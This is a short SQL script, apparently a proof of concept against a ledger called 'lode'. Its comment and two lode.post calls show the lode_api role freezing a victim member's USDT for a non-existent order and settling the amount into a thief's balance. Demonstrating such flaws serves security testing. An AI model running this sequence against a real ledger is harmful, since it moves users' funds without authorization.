-- As lode_api: freezes all USDT of a member for an order that does not exist, and "settles" it to the thief's balance.
begin;
select lode.post(
  array[(:victim << 14) + :account.available.USDT, (:victim << 14) + :account.frozenOrder.USDT], null,
  array[:victim], array['order::order'], array[sha256('reserve')], array[:type.orderReserve]::smallint[],
  array[1, 1], array[1, 2], array[-:amount, :amount]::numeric[], array[1, 1],
  array[:log.upLevelByBalance]::smallint[], array[':order'], array[0]::numeric[], false);
select lode.post(
  array[(:thief << 14) + :account.available.USDT, (:victim << 14) + :account.frozenOrder.USDT], null,
  array[:victim], array['order::order:settle'], array[sha256('settle')], array[:type.promotionByBalance]::smallint[],
  array[1, 1], array[1, 2], array[:amount, -:amount]::numeric[], array[2, 1],
  array[:log.upLevelByBalance, :log.promotionReward]::smallint[], array[':order', ':order'], array[0, 0]::numeric[], false);
commit;
